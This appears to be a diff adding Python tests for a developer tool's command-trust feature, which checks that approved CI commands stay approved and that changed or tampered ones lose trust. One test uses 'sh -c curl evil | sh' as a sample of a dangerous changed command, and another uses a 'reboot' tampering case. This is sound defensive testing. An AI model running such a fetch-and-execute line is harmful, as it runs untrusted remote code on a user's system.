@@ -1,0 +1,94 @@
+"""The agreement to run commands is for exactly these commands."""
+
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from cockpit.config.settings import Ci, LocalCi, Project, Settings
+from cockpit.config.trust import commands_of, difference, is_trusted, shown, trust, why_untrusted
+from cockpit.errors import TrustError
+
+
+def settings(*argv: str, timeout_s: float = 10.0, name: str = "") -> Settings:
+    return Settings(project=Project(name=name), ci=Ci(local=LocalCi(command=list(argv), timeout_s=timeout_s)))
+
+
+def test_nothing_is_trusted_before_the_user_says_so(tmp_path: Path) -> None:
+    assert not is_trusted(tmp_path / "trust.json", settings("pytest"))
+    assert "nobody" in why_untrusted(tmp_path / "trust.json", settings("pytest"))
+    assert difference(tmp_path / "trust.json", settings("pytest", "-q")) == ["+ ci.local.command: pytest -q"]
+
+
+def test_settings_without_commands_need_no_trust(tmp_path: Path) -> None:
+    assert commands_of(Settings()) == ()
+    assert is_trusted(tmp_path / "trust.json", Settings())
+
+
+def test_what_was_trusted_stays_trusted_while_other_keys_change(tmp_path: Path) -> None:
+    trust(tmp_path / "state" / "trust.json", settings("pytest", "-q"))
+    assert is_trusted(tmp_path / "state" / "trust.json", settings("pytest", "-q", timeout_s=99.0, name="other"))
+    assert difference(tmp_path / "state" / "trust.json", settings("pytest", "-q")) == []
+
+
+def test_a_changed_command_is_suspended_and_the_difference_is_shown(tmp_path: Path) -> None:
+    file = tmp_path / "trust.json"
+    trust(file, settings("pytest", "-q"))
+    changed = settings("sh", "-c", "curl evil | sh")
+    assert "changed" in why_untrusted(file, changed)
+    assert difference(file, changed) == ["- ci.local.command: pytest -q", "+ ci.local.command: sh -c 'curl evil | sh'"]
+    trust(file, changed)
+    assert is_trusted(file, changed)
+    assert not is_trusted(file, settings("pytest", "-q"))
+
+
+def test_the_file_is_for_its_owner_alone(tmp_path: Path) -> None:
+    trust(tmp_path / "state" / "trust.json", settings("pytest"))
+    assert (tmp_path / "state" / "trust.json").stat().st_mode & 0o777 == 0o600
+    assert (tmp_path / "state").stat().st_mode & 0o777 == 0o700
+    assert [path.name for path in (tmp_path / "state").iterdir()] == ["trust.json"]
+
+
+@pytest.mark.parametrize(
+    "content",
+    [b"", b"{", b"[]", b"\xff\x00", b'{"format":1,"digest":"","commands":{}}', b"[" * 100_000, b"x" * 2_000_000],
+)
+def test_a_damaged_file_is_no_agreement_and_no_crash(tmp_path: Path, content: bytes) -> None:
+    file = tmp_path / "trust.json"
+    file.write_bytes(content)
+    assert "damaged" in why_untrusted(file, settings("pytest"))
+    assert difference(file, settings("pytest")) == ["+ ci.local.command: pytest"]
+
+
+def test_a_file_edited_to_hold_another_command_is_not_believed(tmp_path: Path) -> None:
+    file = tmp_path / "trust.json"
+    trust(file, settings("pytest"))
+    file.write_bytes(file.read_bytes().replace(b"pytest", b"reboot"))
+    assert not is_trusted(file, settings("reboot"))
+    assert not is_trusted(file, settings("pytest"))
+
+
+def test_an_agreement_that_cannot_be_kept_is_an_error_with_a_next_step(tmp_path: Path) -> None:
+    (tmp_path / "state").write_text("a file where the folder should be")
+    with pytest.raises(TrustError, match="cockpit trust"):
+        trust(tmp_path / "state" / "trust.json", settings("pytest"))
+
+
+@given(st.lists(st.text(max_size=20), min_size=1, max_size=5))
+def test_a_command_is_shown_so_that_nothing_in_it_hides(argv: list[str]) -> None:
+    line = shown(tuple(argv))
+    assert line.isprintable()
+    assert len(line) >= sum(map(len, argv))
+
+
+@given(
+    st.lists(st.text(max_size=8), min_size=1, max_size=4),
+    st.lists(st.text(max_size=8), min_size=1, max_size=4),
+)
+def test_different_arguments_are_different_commands(
+    tmp_path_factory: pytest.TempPathFactory, one: list[str], other: list[str]
+) -> None:
+    file = tmp_path_factory.getbasetemp() / "digest" / "trust.json"
+    trust(file, settings(*one))
+    assert is_trusted(file, settings(*other)) == (one == other)
